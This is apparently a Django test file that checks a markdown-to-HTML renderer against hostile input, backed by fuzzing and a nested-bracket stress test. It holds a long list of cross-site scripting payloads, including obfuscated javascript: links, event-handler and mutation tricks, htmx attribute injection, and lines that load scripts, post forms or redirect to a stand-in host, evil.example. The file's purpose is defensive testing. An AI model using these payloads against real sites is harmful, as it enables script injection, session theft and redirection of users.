"""Markdown to safe HTML: nothing that content says can run, call home or dress up as the page."""

import os
from html.parser import HTMLParser
from urllib.parse import unquote, urlsplit

from django.test import SimpleTestCase
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from troubleshooter import markup

# HYPOTHESIS_EXAMPLES=10000 --hypothesis-seed=N looks harder; each seed at others.
HARD = settings(
    max_examples=int(os.environ.get("HYPOTHESIS_EXAMPLES", "100")),
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import url(//evil.example)</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,hi'></object><embed src=x><base href=//evil.example/>",
    "<form action=//evil.example><input name=session><button>Go</button></form>",
    "<a href='x' hx-post='/g/printer/start/' hx-trigger='load'>x</a>",
    "<div data-hx-get='/admin/' class='button' id='main' style='position:fixed'>x</div>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<a href='javascript:alert(1)' onclick='alert(1)' class=button id=main>x</a>",
    "<a href=' java\nscript:alert(1)' title=x lang=y style='color: red'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](blob:https://evil.example/1)",
    '[x](https://a.example "onclick=alert(1)")',
    '[x](https://a.example"onclick="alert(1))',
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: https://a.example 'title'",
    "<javascript:alert(1)>",
    "<data:text/html,hi>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x][p]\n\n[p]: data:image/svg+xml,<svg/onload=alert(1)>",
    '```" onclick="alert(1)\ncode\n```',
    "```<script>\ncode\n```",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <img src=x onerror=alert(1)> {#main .button onclick=alert(1)}",
    "{% include 'secret' %} {{ settings.SECRET_KEY }}",
]

# Pieces that mean something to a parser, to be shuffled.
PIECES = st.sampled_from(
    [*"<>[]()!\"'`*_#&;:/\\=\n\t -", "javascript:", "<script", "onload=", "style=", "hx-get=", "a"]
)
ANY = st.text(max_size=200) | st.lists(PIECES, max_size=60).map("".join)


class Inspector(HTMLParser):
    """What a browser would make of the HTML: every tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    handle_pi = unknown_decl = handle_comment

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)


class SafetyTests(SimpleTestCase):
    BLOCKS = frozenset(
        {"br", "em", "strong", "code", "a"}
        | {"p", "pre", "ul", "ol", "li", "blockquote", "h3", "h4"}
    )

    def assertHarmless(self, html: str, allowed: frozenset[str]) -> None:
        seen = Inspector(html)
        self.assertEqual(seen.other, [])
        self.assertNotIn("<script", html.lower())
        for tag, attributes in seen.tags:
            self.assertIn(tag, allowed)
            self.assertLessEqual(set(attributes), {"href", "rel"} if tag == "a" else set())
            if tag == "a":
                self.assertEqual(attributes["rel"], "nofollow noopener")
                self.assertSafeAddress(attributes.get("href") or "")

    def assertSafeAddress(self, address: str) -> None:
        """A browser drops white space and controls before it looks for the scheme."""
        squeezed = "".join(letter for letter in address if letter > " " and letter != "\x7f")
        self.assertIn(urlsplit(squeezed).scheme, ("", "https", "http", "mailto", "tel"))

    def test_no_hostile_text_gets_through(self) -> None:
        for text in HOSTILE:
            with self.subTest(text=text):
                self.assertHarmless(markup.render(text), self.BLOCKS)
                self.assertHarmless(markup.render(f"- *{text}*\n\n> {text}"), self.BLOCKS)

    def test_the_second_layer_holds_without_the_first(self) -> None:
        clean = getattr(markup, "_clean")  # noqa: B009 (no caller hands it raw text)
        for html in HOSTILE:
            with self.subTest(html=html):
                self.assertHarmless(clean(html), self.BLOCKS)

    @HARD
    @given(ANY)
    @example("[a](b\n'c')")
    def test_no_text_breaks_it_or_gets_through(self, text: str) -> None:
        self.assertHarmless(markup.render(text), self.BLOCKS)

    @HARD
    @given(st.text(min_size=1, max_size=60))
    def test_no_address_becomes_an_order(self, address: str) -> None:
        for scheme in ("javascript:", "data:", ""):
            self.assertHarmless(markup.render(f"[x](<{scheme}{address}>)"), self.BLOCKS)

    def test_an_encoded_scheme_is_only_a_relative_address(self) -> None:
        for tag, attributes in Inspector(markup.render("[x](%6aavascript:alert(1))")).tags:
            if tag == "a":
                address = attributes["href"] or ""
                self.assertTrue(address.startswith("%6a"), address)
                self.assertEqual(unquote(address), "javascript:alert(1)")

    def test_a_remote_picture_is_not_loaded_but_linked(self) -> None:
        html = markup.render("![Settings](https://evil.example/pixel.png)")
        self.assertNotIn("<img", html)
        self.assertIn(">Settings</a>", html)

    def test_a_bomb_of_brackets_ends(self) -> None:
        # Each of these takes one parser or another minutes, or breaks its stack.
        for piece in ("[", ">", "*", "`", "- ", "> - ", "**a "):
            with self.subTest(piece=piece):
                self.assertHarmless(markup.render((piece * 50_000)[:50_000]), self.BLOCKS)


class RenderTests(SimpleTestCase):
    def test_it_works(self) -> None:
        html = markup.render("Open **Settings**:\n\n1. Tap *iCloud*\n2. Tap `Back up`\n\n> Wait.")
        for part in (
            "<p>Open <strong>Settings</strong>:</p>",
            "<ol>\n<li>Tap <em>iCloud</em></li>\n<li>Tap <code>Back up</code></li>\n</ol>",
            "<blockquote>\n<p>Wait.</p>\n</blockquote>",
        ):
            self.assertIn(part, html)

    def test_links_go_where_they_say(self) -> None:
        for address in (
            "https://support.example/a?b=1",
            "/g/printer/",
            "mailto:a@b.example",
            "tel:+1",
        ):
            html = markup.render(f"[help]({address})")
            self.assertEqual(html, f'<p><a href="{address}" rel="nofollow noopener">help</a></p>')

    def test_what_looks_like_a_tag_is_shown_as_written(self) -> None:
        html = markup.render("Press <Ctrl> & wait")
        self.assertEqual(html, "<p>Press &lt;Ctrl&gt; &amp; wait</p>")

    def test_templates_show_the_result_as_it_is(self) -> None:
        self.assertTrue(hasattr(markup.render("*a*"), "__html__"))
